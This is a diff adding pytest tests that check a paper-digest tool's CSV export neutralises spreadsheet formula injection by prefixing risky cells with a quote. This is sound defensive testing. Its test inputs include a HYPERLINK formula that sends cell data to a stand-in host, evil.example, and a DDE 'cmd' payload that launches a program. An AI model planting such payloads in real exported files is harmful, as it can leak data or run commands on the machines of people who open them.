@@ -504,6 +504,84 @@ def test_csv_to_a_file_is_utf8(capsys, tmp_path, seeds):
     assert all(row["line"].isdigit() for row in rows)
 
 
+# What spreadsheets take for the start of a formula: OWASP's list, and a line feed.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+# The columns that hold the text every_text_field gives every field.
+_TEXT_COLUMNS = (
+    "title",
+    "title_zh",
+    "authors",
+    "affiliations",
+    "category",
+    "summary_zh",
+    "abstract_en",
+    "figures",
+)
+
+
+def written_csv(digests: list[Digest]) -> list[dict[str, str]]:
+    """The rows of ``digests`` as ``digest export --format csv`` writes them, read back."""
+    buffer = io.StringIO(newline="")
+    writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS)
+    writer.writeheader()
+    writer.writerows(csv_rows(digests))
+    return list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))
+
+
+def every_text_field(text: str, link: str = "https://example.com/") -> Entry:
+    """A paper whose every text field (authors, affiliations and figures: one each) is ``text``."""
+    return paper(text, (text,), category=text, links=(link,)).model_copy(
+        update={
+            "title_zh": text,
+            "affiliations": [text],
+            "summary_zh": text,
+            "abstract_en": text,
+            "figures": [text],
+        }
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+2",
+        "+A1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+2",
+        "\r=1+2",
+        "\n=1+2",
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "=cmd|' /C calc'!A0",
+    ],
+)
+def test_csv_cells_that_start_a_formula_get_a_quote(text):
+    (row,) = written_csv([digest("2020-12-16", every_text_field(text))])
+    for column in _TEXT_COLUMNS:
+        assert row[column] == "'" + text, column
+
+
+@pytest.mark.parametrize("text", ["Neural Mechanics", "'=1+2", " =1+2", "1+2", "a=b", "L-BFGS", "神经-力学"])
+def test_other_csv_cells_are_written_as_they_are(text):
+    (row,) = written_csv([digest("2020-12-16", every_text_field(text))])
+    for column in _TEXT_COLUMNS:
+        assert row[column] == text, column
+
+
+# Text of any kind, and text made of what starts formulas and what CSV quotes.
+_CELL_TEXT = st.one_of(st.text(), st.lists(st.sampled_from([*"=+-@\t\r\n'\",; aZ神", "=1+2"])).map("".join))
+
+
+@settings(max_examples=300, deadline=None)
+@given(text=_CELL_TEXT, link=_CELL_TEXT)
+def test_no_csv_cell_starts_a_formula(text, link):
+    """No cell starts a formula; each is its value, with one quote added only if the value would."""
+    (row,) = written_csv([digest("2020-12-16", every_text_field(text, link))])
+    assert not any(cell.startswith(FORMULA_START) for cell in row.values())
+    for column, value in {**dict.fromkeys(_TEXT_COLUMNS, text), "links": link}.items():
+        assert row[column] == ("'" + value if value.startswith(FORMULA_START) else value), column
+
+
 # --- the command ---------------------------------------------------------------------------
 
 
